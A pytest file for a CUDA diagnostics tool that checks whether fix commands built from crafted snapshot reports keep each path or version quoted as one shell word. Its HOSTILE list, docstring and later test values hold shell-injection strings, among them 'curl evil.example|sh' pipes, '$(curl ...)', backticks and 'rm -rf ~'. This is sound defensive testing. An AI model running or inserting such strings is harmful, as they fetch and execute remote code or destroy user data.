"""Fix commands built from a crafted report are safe to paste (issue 27): every path or value a
command takes from a snapshot is one shell word, however it is written, so nothing in a report can
add a command to the fix a maintainer copies (``export PATH=/x;curl evil|sh;#/bin:$PATH``)."""

from __future__ import annotations

import dataclasses
import shlex
from typing import List

import pytest

from cudadoctor.checks.libraries import CHECKS as LIBRARY_CHECKS
from cudadoctor.checks.toolchain import CHECKS as TOOLCHAIN_CHECKS
from cudadoctor.model import Finding, Package, Toolkit
from cudadoctor.model.shell import assign, comment, prepend_path, quote
from test_checks_toolchain import CUDA_118, LAPTOP, TWO, machine, matrix, with_torch_cuda

HOSTILE = [
    "/usr/local/cuda-12.4;curl -s https://evil.example/x|sh;#",
    "/opt/$(curl evil.example)",
    "/opt/`id`",
    "/opt/it's here",
    "/opt/a b\nrm -rf ~",
    "/opt/x\" && id && echo \"",
    "/opt/x'; id; echo '",
    "/opt/x&id>/tmp/y",
]


def _commands(findings: List[Finding]) -> List[str]:
    return [c.run for f in findings for c in (f.fix.commands if f.fix else ())]


def _one_word(command: str, value: str) -> None:
    """``value`` is inside one word of ``command`` as a POSIX shell reads it, and nothing runs after it."""
    words = shlex.split(command, comments=True)
    clean = value.replace("\n", "?")
    assert any(clean in w for w in words), (command, words)
    assert not any(w in (";", "&&", "|", "&") for w in words), words


@pytest.mark.parametrize("value", HOSTILE)
def test_the_shell_helpers_keep_a_value_one_word(value: str) -> None:
    for command in (assign("CUDA_HOME", value), prepend_path(value + "/bin"), f"pip install {quote(value)}"):
        _one_word(command, value)
        assert "\n" not in command
    assert "\n" not in comment(value) and comment(value).startswith("# ")


def test_ordinary_values_are_written_as_before() -> None:
    assert assign("CUDA_HOME", "/usr/local/cuda-12.4") == "export CUDA_HOME=/usr/local/cuda-12.4"
    assert prepend_path("/usr/local/cuda-12.4/bin") == "export PATH=/usr/local/cuda-12.4/bin:$PATH"
    assert quote("torch==2.5.1") == "torch==2.5.1"


@pytest.mark.parametrize("value", HOSTILE)
def test_a_crafted_toolkit_path_stays_one_word(value: str) -> None:
    """CUDA_HOME and PATH name two toolkits of different CUDA versions, at hostile paths."""
    snap = machine(TWO)
    toolkits = tuple(dataclasses.replace(tk, root=value) if "12.4" in tk.root else tk for tk in snap.toolkits or ())
    snap = dataclasses.replace(snap, toolkits=toolkits)
    commands = _commands([f for check in TOOLCHAIN_CHECKS for f in check.fn(snap, matrix())])
    assert commands, "the fix names the toolkit"
    for command in commands:
        if "evil" in command or "id" in command or "rm" in command:
            _one_word(command, value)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_crafted_toolkit_path_of_torchs_cuda_stays_one_word(value: str) -> None:
    crafted = Toolkit(value, "12.4.1", "version.json", value + "/bin/nvcc", (value,), active=False, exists=True)
    snap = dataclasses.replace(machine(LAPTOP), toolkits=(CUDA_118, crafted))
    commands = _commands([f for check in TOOLCHAIN_CHECKS for f in check.fn(snap, matrix())])
    assert len(commands) >= 2
    for command in commands:
        if command.startswith(("export CUDA_HOME", "export PATH")):
            _one_word(command, value)


def test_a_crafted_cuda_version_stays_in_one_word_and_its_comment() -> None:
    snap = with_torch_cuda(dataclasses.replace(machine(LAPTOP), toolkits=(CUDA_118,)), "2.5.1+cu124",
                           "12.4;curl evil.example|sh\nid")
    commands = _commands([f for check in TOOLCHAIN_CHECKS for f in check.fn(snap, matrix())])
    assert commands and all("\n" not in c for c in commands)
    for command in commands:
        words = shlex.split(command, comments=True)
        assert words[:1] == ["export"] and len(words) == 2, words


def test_crafted_package_names_stay_one_word() -> None:
    """Two copies of one package with hostile versions: the reinstall command quotes them."""
    snap = machine(LAPTOP)
    bad = "1.0;curl evil.example|sh"
    packages = (*(snap.packages or ()), Package("nvidia-cudnn-cu12", "9.1.0.70", location="/a/site-packages"),
                Package("nvidia-cudnn-cu12", bad, location="/b/site-packages"))
    snap = dataclasses.replace(snap, packages=packages)
    commands = [c for c in _commands([f for check in LIBRARY_CHECKS for f in check.fn(snap, matrix())])
                if "evil" in c]
    for command in commands:
        _one_word(command, bad)
